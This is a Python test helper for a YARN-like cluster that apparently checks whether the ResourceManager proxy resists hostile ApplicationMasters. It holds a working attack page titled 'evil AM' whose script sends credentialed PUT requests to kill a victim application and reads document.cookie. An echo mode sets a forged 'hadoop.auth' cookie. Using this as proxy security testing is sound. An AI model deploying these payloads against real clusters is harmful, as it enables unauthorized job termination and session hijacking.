"""An ApplicationMaster with a web UI of its own, for the RM proxy's attack tests: registers a tracking URL
with the RM, heartbeats, and serves one of

- `echo`: every request answered with the method, path and headers it arrived with (JSON), plus a
  `Set-Cookie`, so a test sees what the proxy forwards and whether an AM can set cookies on the RM's origin;
  `/seen` lists every request it has had (`METHOD path`);
- `silent`: accepts connections and never answers (a hung AM);
- `page`: an HTML page whose script tries to kill the application named in `--victim` through the RM's
  REST, and reports what happened to `/report` on the AM itself (the browser test reads it back).

    $PYTHON web_am.py echo [--tracking URL]     # URL may contain {self}: this AM's own host:port
"""

from __future__ import annotations

import argparse
import json
import signal
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import FrameType

from miniyarn.client.amrm_client import AMRMClient

REPORTS: list[str] = []
SEEN: list[str] = []

PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>evil AM</title></head><body>
<p id="status">running</p>
<script>
async function attack() {
  const out = [];
  for (const url of ["/ws/v1/cluster/apps/VICTIM/state", "../../ws/v1/cluster/apps/VICTIM/state"]) {
    try {
      const r = await fetch(url, {method: "PUT", credentials: "include",
                                  headers: {"Content-Type": "application/json"},
                                  body: JSON.stringify({state: "KILLED"})});
      out.push(url + " " + r.status);
    } catch (e) { out.push(url + " error " + e.name); }
  }
  try { out.push("cookie " + JSON.stringify(document.cookie)); } catch (e) { out.push("cookie error " + e.name); }
  await fetch("report", {method: "POST", body: out.join("\\n")}).catch(() => null);
  document.getElementById("status").textContent = "done: " + out.join(" | ");
}
attack();
</script></body></html>"""


class Handler(BaseHTTPRequestHandler):
    mode = "echo"
    victim = ""

    def log_message(self, format: str, *args: object) -> None:
        pass

    def _answer(self) -> None:
        if self.mode == "silent":
            time.sleep(3600)
            return
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length) if length else b""
        if self.path.endswith("/report"):
            if self.command == "POST":
                REPORTS.append(body.decode("utf-8", "replace"))
            self._send(200, "application/json", json.dumps(REPORTS).encode())
            return
        if self.path.endswith("/seen"):
            self._send(200, "application/json", json.dumps(SEEN).encode())
            return
        SEEN.append(f"{self.command} {self.path}")
        if self.mode == "page":
            self._send(200, "text/html; charset=utf-8", PAGE.replace("VICTIM", self.victim).encode())
            return
        self._send(200, "application/json", json.dumps({
            "method": self.command, "path": self.path, "headers": dict(self.headers.items()),
            "body": body.decode("utf-8", "replace")}).encode(), cookie=True)

    def _send(self, status: int, ctype: str, data: bytes, cookie: bool = False) -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(data)))
        if cookie:
            self.send_header("Set-Cookie", "hadoop.auth=forged-by-the-am; Path=/")
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _answer


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("mode", choices=["echo", "silent", "page"])
    parser.add_argument("--tracking", default="http://{self}/")
    parser.add_argument("--victim", default="")
    ns = parser.parse_args()
    Handler.mode, Handler.victim = ns.mode, ns.victim
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    me = f"127.0.0.1:{server.server_address[1]}"
    stop = False

    def on_term(_sig: int, _frame: FrameType | None) -> None:
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    am = AMRMClient()
    am.register(host="127.0.0.1", rpc_port=server.server_address[1], tracking_url=ns.tracking.replace("{self}", me))
    print(f"web AM ({ns.mode}) registered, serving {me}", flush=True)
    while not stop:
        am.allocate(progress=0.5)
        time.sleep(1.0)
    return 0


if __name__ == "__main__":
    sys.exit(main())
